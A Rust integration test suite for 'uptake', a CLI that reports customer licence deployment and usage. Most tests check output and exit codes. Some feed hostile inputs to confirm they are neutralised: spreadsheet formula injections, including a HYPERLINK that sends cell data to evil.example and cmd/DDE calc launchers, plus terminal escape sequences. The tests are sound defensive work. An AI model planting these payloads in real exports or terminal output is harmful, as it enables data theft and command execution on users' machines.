//! The CLI contract, run against the real binary: `show`, `list`, exit codes, messages,
//! cache lookup and the demo fallback.

mod common;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::{Run, fixture, stderr, stdout, uptake, uptake_in};
use serde_json::Value;

fn json(o: &Output) -> Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(o)))
}

#[test]
fn show_json_carries_the_computed_numbers() {
    let portfolio = fixture("portfolio.json");
    let o = uptake(&[
        "show",
        "tailspin",
        "--json",
        "--data",
        portfolio.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v = json(&o);
    assert_eq!(v["customer"]["id"], "6b3f8f7e-51c2-4a5b-9a7e-1f2d3c4b5a60");
    assert_eq!(v["customer"]["name"], "Tailspin Toys");
    assert_eq!(v["as_of"]["deployment"], "2025-06-14T03:25:16Z");
    assert_eq!(v["as_of"]["usage"], "2025-06-09T00:00:00Z");
    assert_eq!(v["deployment"]["assigned"], 30);
    assert_eq!(v["deployment"]["sold"], 30);
    assert_eq!(v["deployment"]["percent"], 100.0);
    assert_eq!(v["usage"]["active"], 63);
    assert_eq!(v["usage"]["qualified"], 60);
    assert_eq!(v["usage"]["percent"], 105.0);
    let yammer = &v["products"][0]["workloads"][1];
    assert_eq!(yammer["name"], "Yammer");
    assert_eq!(yammer["code"], Value::Null);
    let pct = yammer["usage_percent"].as_f64().unwrap();
    assert!(
        (pct - 34.0 * 100.0 / 30.0).abs() < 1e-9,
        "full precision, not rounded: {pct}"
    );
    assert_eq!(yammer["flags"], serde_json::json!(["usage_over_100"]));
    assert_eq!(v["products"][0]["service"], "o365");
    assert_eq!(v["flags"], serde_json::json!(["usage_over_100"]));
    assert_eq!(v["actions"][0]["id"], "check_data");
    assert_eq!(v["actions"][0]["priority"], 1);
    assert!(
        v["actions"][0]["why"]
            .as_str()
            .unwrap()
            .contains("Yammer usage 113%")
    );
}

#[test]
fn show_json_uses_null_for_na() {
    let portfolio = fixture("portfolio.json");
    let o = uptake(&[
        "show",
        "backerei",
        "--json",
        "--data",
        portfolio.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v = json(&o);
    assert_eq!(
        v["customer"]["name"], "Bäckerei Köhler",
        "accent-insensitive query"
    );
    let dynamics = v["products"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "DYNAMICS 365 SALES ENTERPRISE")
        .unwrap();
    assert_eq!(dynamics["deployment_percent"], Value::Null);
    assert_eq!(
        dynamics["flags"],
        serde_json::json!(["deployment_na", "assigned_without_sold"])
    );
    assert_eq!(dynamics["service"], "crm");
    assert_eq!(
        v["deployment"]["sold"], 8,
        "roll-up only over products with sold > 0"
    );
    assert!(
        v["flags"]
            .as_array()
            .unwrap()
            .contains(&Value::from("assigned_without_sold"))
    );
}

#[test]
fn show_text_quotes_gauge_values_and_why_lines() {
    let portfolio = fixture("portfolio.json");
    let o = uptake(&[
        "show",
        "Tailspin Toys",
        "--data",
        portfolio.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0));
    let out = stdout(&o);
    assert!(
        out.contains("Usage          105%  63 of 60 workload entitlements active"),
        "{out}"
    );
    assert!(
        out.contains("    Yammer      usage    113% !  34 of 30 active"),
        "{out}"
    );
    assert!(
        out.contains("deployment data as of 2025-06-14 (5 days old)"),
        "{out}"
    );
    assert!(
        out.contains("1. Check the data before acting on usage over 100%"),
        "{out}"
    );
}

#[test]
fn show_by_id_and_cjk_name() {
    let portfolio = fixture("portfolio.json");
    let data = portfolio.to_str().unwrap();
    let by_id = uptake(&[
        "show",
        "A1B2C3D4-0000-4000-8000-000000000002",
        "--json",
        "--data",
        data,
    ]);
    assert_eq!(json(&by_id)["customer"]["name"], "臺灣雲端資訊股份有限公司");
    let by_name = uptake(&["show", "雲端", "--json", "--data", data]);
    assert_eq!(
        json(&by_name)["customer"]["id"],
        "a1b2c3d4-0000-4000-8000-000000000002"
    );
}

/// `uptake show tailspin toys` (unquoted) is the name "tailspin toys", as quoted; options may
/// come between or after the words.
#[test]
fn show_takes_a_name_of_several_words_unquoted() {
    let portfolio = fixture("portfolio.json");
    let data = portfolio.to_str().unwrap();
    let quoted = uptake(&["show", "tailspin toys", "--json", "--data", data]);
    assert_eq!(quoted.status.code(), Some(0), "{}", stderr(&quoted));
    for args in [
        ["show", "tailspin", "toys", "--json", "--data", data],
        ["show", "--json", "tailspin", "toys", "--data", data],
    ] {
        let words = uptake(&args);
        assert_eq!(words.status.code(), Some(0), "{args:?}: {}", stderr(&words));
        assert_eq!(json(&words), json(&quoted), "{args:?}");
    }
}

#[test]
fn show_without_a_match_or_with_several_exits_1() {
    let portfolio = fixture("portfolio.json");
    let data = portfolio.to_str().unwrap();
    let none = uptake(&["show", "nobody", "--data", data]);
    assert_eq!(none.status.code(), Some(1));
    assert!(
        stderr(&none).contains("no customer matches \"nobody\""),
        "{}",
        stderr(&none)
    );
    let many = uptake(&["show", "a", "--data", data]);
    assert_eq!(many.status.code(), Some(1));
    let err = stderr(&many);
    // Two names contain an "a"; the ids no longer match a single letter (issue 11: ids match
    // from their start, from 4 hex digits on).
    assert!(err.contains("2 customers match \"a\""), "{err}");
    assert!(err.contains("Tailspin Toys"), "{err}");
    assert!(stdout(&many).is_empty());
}

/// A query with nothing to search for (empty, blanks, invisible characters) is an error that
/// says so: it used to list every customer as matching.
#[test]
fn show_with_an_empty_query_says_it_names_no_customer() {
    let portfolio = fixture("portfolio.json");
    let data = portfolio.to_str().unwrap();
    for query in [
        "",
        "  ",
        "\u{200b}\u{ad}",
        "\u{a0}",
        "\u{301}",
        "\u{fe0f}\u{20e3}",
    ] {
        let o = uptake(&["show", query, "--data", data]);
        assert_eq!(o.status.code(), Some(1), "{query:?}");
        let err = stderr(&o);
        assert!(err.contains("names no customer"), "{query:?}: {err}");
        assert!(!err.contains("customers match"), "{query:?}: {err}");
        assert!(stdout(&o).is_empty(), "{query:?}");
    }
}

#[test]
fn list_json_is_an_array_without_products() {
    let portfolio = fixture("portfolio.json");
    let o = uptake(&["list", "--json", "--data", portfolio.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0));
    let v = json(&o);
    let items = v.as_array().unwrap();
    assert_eq!(items.len(), 3);
    assert!(items.iter().all(|i| i.get("products").is_none()));
    assert!(
        items
            .iter()
            .all(|i| i.get("actions").is_some() && i.get("flags").is_some())
    );
}

#[test]
fn list_sorts_by_usage_lowest_first() {
    let portfolio = fixture("portfolio.json");
    let o = uptake(&[
        "list",
        "--sort",
        "usage",
        "--json",
        "--data",
        portfolio.to_str().unwrap(),
    ]);
    let names: Vec<String> = json(&o)
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["customer"]["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(
        names,
        [
            "Bäckerei Köhler",
            "臺灣雲端資訊股份有限公司",
            "Tailspin Toys"
        ]
    );
}

#[test]
fn bad_arguments_exit_2() {
    assert_eq!(
        uptake(&["list", "--sort", "nonsense"]).status.code(),
        Some(2)
    );
    assert_eq!(uptake(&["--frobnicate"]).status.code(), Some(2));
    assert_eq!(
        uptake(&["list", "--filter", "nonsense"]).status.code(),
        Some(2)
    );
    assert_eq!(
        uptake(&["show", "x", "--format", "pdf"]).status.code(),
        Some(2)
    );
}

#[test]
fn a_missing_path_exits_1_naming_it() {
    let o = uptake(&["list", "--data", "/no/such/export.json"]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.starts_with("uptake: error: /no/such/export.json: cannot read"),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1, "{err}");
}

#[test]
fn malformed_files_exit_1_with_one_line_and_no_backtrace() {
    for (file, want) in [
        ("bad/truncated.json", "invalid JSON"),
        (
            "bad/wrong_type.json",
            "record 1 (items[0]), field licensesDeployed",
        ),
        ("bad/negative.json", "negative count -3"),
        ("bad/huge.json", "implausibly large count"),
        ("bad/empty.json", "the file is empty"),
    ] {
        let path = fixture(file);
        let o = uptake(&["show", "A", "--data", path.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(1), "{file}");
        let err = stderr(&o);
        assert!(
            err.contains(file.trim_start_matches("bad/")) && err.contains(want),
            "{file}: {err}"
        );
        assert_eq!(err.lines().count(), 1, "{file}: {err}");
        assert!(
            !err.contains("panicked") && !err.contains("backtrace"),
            "{err}"
        );
    }
}

#[test]
fn a_skipped_record_fails_show_unless_keep_going() {
    let path = fixture("bad_record.json");
    let data = path.to_str().unwrap();
    let strict = uptake(&["list", "--data", data]);
    assert_eq!(strict.status.code(), Some(1));
    let err = stderr(&strict);
    assert!(
        err.contains("record 2 (items[1]), field licensesDeployed: negative count -5"),
        "{err}"
    );
    assert!(err.contains("--keep-going"), "{err}");
    let lenient = uptake(&["list", "--json", "--keep-going", "--data", data]);
    assert_eq!(lenient.status.code(), Some(0));
    assert_eq!(json(&lenient).as_array().unwrap().len(), 2);
}

#[test]
fn hostile_names_never_reach_the_output_raw() {
    let path = fixture("hostile.json");
    for args in [
        vec!["list"],
        vec!["list", "--json"],
        vec!["show", "evil"],
        vec!["show", "evil", "--json"],
    ] {
        let mut args = args.clone();
        args.extend(["--data", path.to_str().unwrap()]);
        let o = uptake(&args);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        let out = stdout(&o);
        assert!(
            !out.contains('\u{1b}') && !out.contains('\u{7}') && !out.contains('\u{202e}'),
            "{args:?}: {out:?}"
        );
    }
}

#[test]
fn without_data_the_newest_cached_snapshot_is_read() {
    let cache = tempfile::tempdir().unwrap();
    let old = cache.path().join("snapshots/20250101T000000Z");
    let new = cache.path().join("snapshots/20250614T032516Z");
    std::fs::create_dir_all(&old).unwrap();
    std::fs::create_dir_all(&new).unwrap();
    std::fs::copy(fixture("v1_deployment.json"), old.join("deployment.json")).unwrap();
    std::fs::copy(fixture("portfolio.json"), new.join("portfolio.json")).unwrap();
    std::fs::write(new.join("manifest.json"), "{}").unwrap();
    let o = uptake_in(cache.path(), &["list", "--json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(
        json(&o).as_array().unwrap().len(),
        3,
        "the newest snapshot, manifest ignored"
    );
}

/// Scripts never get invented numbers: with no `--data` and nothing cached (or a mistyped
/// cache folder), `show` and `list` fail saying how to get data; the demo needs `--demo`.
#[test]
fn scripts_without_data_fail_saying_how_to_get_some() {
    let cache = tempfile::tempdir().unwrap();
    let mistyped = cache.path().join("no-such-folder");
    for dir in [cache.path(), mistyped.as_path()] {
        for args in [
            vec!["list", "--csv"],
            vec!["list", "--json"],
            vec!["show", "contoso"],
        ] {
            let o = uptake_in(dir, &args);
            assert_eq!(o.status.code(), Some(1), "{args:?}");
            assert!(o.stdout.is_empty(), "{args:?}: {}", stdout(&o));
            let err = stderr(&o);
            assert!(err.contains("no data"), "{err}");
            assert!(err.contains("uptake import PATH"), "{err}");
            assert!(err.contains("--demo"), "{err}");
        }
    }
}

#[test]
fn with_demo_the_demo_opens() {
    let o = uptake(&["list", "--json", "--demo"]);
    assert_eq!(o.status.code(), Some(0));
    let v = json(&o);
    let items = v.as_array().unwrap();
    assert!(items.len() >= 35, "about 40 demo customers");
    let flags: std::collections::BTreeSet<String> = items
        .iter()
        .flat_map(|i| {
            i["flags"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| f.as_str().unwrap().to_string())
        })
        .collect();
    for flag in [
        "low_deployment",
        "low_usage",
        "usage_over_100",
        "deployment_na",
        "usage_na",
        "assigned_without_sold",
        "stale_data",
        "trial",
        "many_support_requests",
    ] {
        assert!(flags.contains(flag), "demo covers {flag}");
    }
    let actions: std::collections::BTreeSet<String> = items
        .iter()
        .flat_map(|i| {
            i["actions"]
                .as_array()
                .unwrap()
                .iter()
                .map(|a| a["id"].as_str().unwrap().to_string())
        })
        .collect();
    for id in [
        "check_data",
        "refresh_data",
        "convert_trial",
        "show_value",
        "assign_licenses",
        "workload_adoption",
        "expand",
        "usage_falling",
        "training",
    ] {
        assert!(actions.contains(id), "demo covers {id}");
    }
}

#[test]
fn the_interactive_view_without_a_terminal_says_what_to_use() {
    let o = uptake(&[]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("needs a terminal"), "{}", stderr(&o));
}

fn uptake_with_config(config: &str, args: &[&str]) -> Output {
    Run::new().config(config).args(args).output()
}

#[test]
fn config_thresholds_change_the_flags() {
    let portfolio = fixture("portfolio.json");
    let data = portfolio.to_str().unwrap();
    let strict = uptake_with_config(
        "[thresholds]\nlow_usage = 99\n",
        &["show", "雲端", "--json", "--data", data],
    );
    let v = json(&strict);
    assert!(
        v["flags"]
            .as_array()
            .unwrap()
            .contains(&Value::from("low_usage")),
        "91% < 99%: {v}"
    );
    let print = uptake_with_config("[thresholds]\nlow_usage = 99\n", &["config", "--print"]);
    let out = stdout(&print);
    assert!(out.contains("low_usage = 99.0"), "{out}");
    assert!(
        out.contains("stale_days = 35"),
        "defaults printed too: {out}"
    );
}

#[test]
fn a_bad_config_is_a_one_line_error_naming_the_key() {
    let o = uptake_with_config("[thresholds]\nlow_usage = 150\n", &["list"]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains("config.toml: thresholds.low_usage: must be between 0 and 100, found 150"),
        "{err}"
    );
    let o = uptake_with_config("[display]\ncolour = \"red\"\n", &["list"]);
    assert!(
        stderr(&o).contains("unknown field `colour`"),
        "{}",
        stderr(&o)
    );
    assert_eq!(stderr(&o).lines().count(), 1);
}

/// Formula payloads in customer names and ids, as a spreadsheet would run them, including
/// the ones only the sanitiser's trimming used to make live (tab, CR, space, NBSP in front).
const FORMULAS: [&str; 16] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{a0}\t @SUM(1)",
    "\n+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "-1",
    "@",
    "＝1+1",
];

fn hostile_csv_export(dir: &Path) -> PathBuf {
    let items: Vec<Value> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, payload)| {
            serde_json::json!({
                "customerName": payload,
                "customerId": if i % 2 == 0 { format!("{payload}#{i}") } else { format!("id-{i}") },
                "productName": "MICROSOFT 365 E3",
                "licensesDeployed": 3,
                "licensesSold": 5,
                "processedDateTime": "2025-06-14T03:25:16Z",
                "serviceName": "o365",
                "channel": "reseller",
                "attributes": { "objectType": "CustomerLicensesDeploymentInsights" }
            })
        })
        .collect();
    let path = dir.join("deployment.json");
    let body = serde_json::json!([{ "totalCount": items.len(), "items": items }]);
    std::fs::write(&path, body.to_string()).unwrap();
    path
}

#[test]
fn list_csv_never_starts_a_cell_with_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let data = hostile_csv_export(dir.path());
    let o = uptake(&["list", "--csv", "--data", data.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
    let mut names = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for (column, cell) in [
            (0, &record[0]),
            (1, &record[1]),
            (9, &record[9]),
            (10, &record[10]),
        ] {
            let live = cell.starts_with(['\t', '\r'])
                || cell.trim_start().starts_with(['=', '+', '-', '@', '＝']);
            assert!(!live, "column {column}: live formula {cell:?}");
        }
        assert!(record[1].starts_with('\''), "neutralised: {:?}", &record[1]);
        names += 1;
    }
    assert_eq!(names, FORMULAS.len());
}

/// clap quotes a bad value back: through the sanitiser, so it cannot set the title or turn
/// mouse reporting on.
#[test]
fn argument_errors_never_echo_escape_sequences() {
    let payload = "xx\u{1b}]0;PWN\u{7}\u{1b}[?1000h\u{9b}31m";
    for args in [
        vec!["--lang", payload],
        vec!["list", "--sort", payload],
        vec!["list", "--filter", payload],
        vec!["show", "x", "--format", payload],
        vec!["list", payload],
        vec!["--theme", payload],
    ] {
        let o = uptake(&args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        let err = stderr(&o);
        assert!(
            !err.chars().any(|c| c.is_control() && c != '\n'),
            "{args:?}: {err:?}"
        );
        assert!(err.contains("xx"), "{args:?}: still names the value: {err}");
    }
}

/// A bad value is quoted as people read it: sanitised, not with Rust's `\u{1b}` escapes.
#[test]
fn warnings_quote_the_sanitised_value() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("deployment.json");
    let body = serde_json::json!([{ "totalCount": 2, "items": [
        {
            "customerName": "Contoso", "customerId": "c1", "productName": "MICROSOFT 365 E3",
            "licensesDeployed": 3, "licensesSold": 5,
            "processedDateTime": "2025-13-99\u{1b}]52;c;ZXZpbA==\u{7}",
            "serviceName": "o365", "channel": "reseller",
            "attributes": { "objectType": "CustomerLicensesDeploymentInsights" }
        },
        {
            "customerName": "Fabrikam", "customerId": "c2", "productName": "MICROSOFT 365 E3",
            "licensesDeployed": 3, "licensesSold": 5,
            "processedDateTime": "2025-06-14T03:25:16Z",
            "serviceName": "o365", "channel": "reseller",
            "attributes": { "objectType": "CustomerLicensesDeploymentInsights" }
        }
    ]}]);
    std::fs::write(&path, body.to_string()).unwrap();
    let o = uptake(&["import", path.to_str().unwrap()]);
    let err = format!("{}{}", stdout(&o), stderr(&o));
    assert!(err.contains("cannot read date \"2025-13-99\""), "{err}");
    assert!(!err.contains("\\u{"), "no debug escapes: {err}");
    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
}

/// With standard error closed (`uptake show a 2>&1 | head -1`), the list of matches is lost,
/// not turned into a panic (exit 101): the command still ends as it would, exit 1.
#[test]
fn a_closed_standard_error_is_no_panic() {
    let portfolio = fixture("portfolio.json");
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let o = Run::new()
        .args(["show", "a", "--data", portfolio.to_str().unwrap()])
        .stderr(writer)
        .output();
    assert_eq!(o.status.code(), Some(1), "{o:?}");
}

/// A fault reading an export (`SIGBUS`: a mapped file cut short by another program while it
/// is read) ends a command with a sentence and 135, not the shell's "Bus error". The export is
/// a FIFO here: once this test's end of it is open, the command is reading it (its handler is
/// installed before), so the signal arrives at a known point.
#[cfg(unix)]
#[test]
fn a_fault_reading_an_export_ends_a_command_with_a_sentence() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("export.json");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let running = Run::new()
        .args(["show", "contoso", "--data", fifo.to_str().unwrap()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn();
    let mut running = running;
    // Opening the writing end waits for the reader: on a thread, so that a command that never
    // opens its export fails the test instead of hanging it.
    let (opened, writer) = std::sync::mpsc::channel();
    let path = fifo.clone();
    std::thread::spawn(move || {
        let _ = opened.send(std::fs::OpenOptions::new().write(true).open(path));
    });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let writer = loop {
        if let Ok(file) = writer.recv_timeout(std::time::Duration::from_millis(50)) {
            break file.unwrap();
        }
        if let Some(status) = running.try_wait().unwrap() {
            panic!("ended before reading its export: {status}");
        }
        assert!(
            std::time::Instant::now() < deadline,
            "never read its export"
        );
    };
    let pid = running.id().to_string();
    let killed = std::process::Command::new("kill")
        .args(["-s", "BUS", &pid])
        .status()
        .unwrap();
    assert!(killed.success());
    // Without a handler of its own the signal would be lost (Rust's runtime lets a `SIGBUS`
    // it did not fault pass once): the command would go on reading.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while running.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            running.kill().unwrap();
            panic!("still running after SIGBUS");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    drop(writer);
    let o = running.wait_with_output();
    assert_eq!(o.status.code(), Some(135), "{o:?}");
    assert_eq!(
        stderr(&o),
        "uptake: stopped: a file being read was cut short meanwhile (SIGBUS); the cache is as it was\n"
    );
}
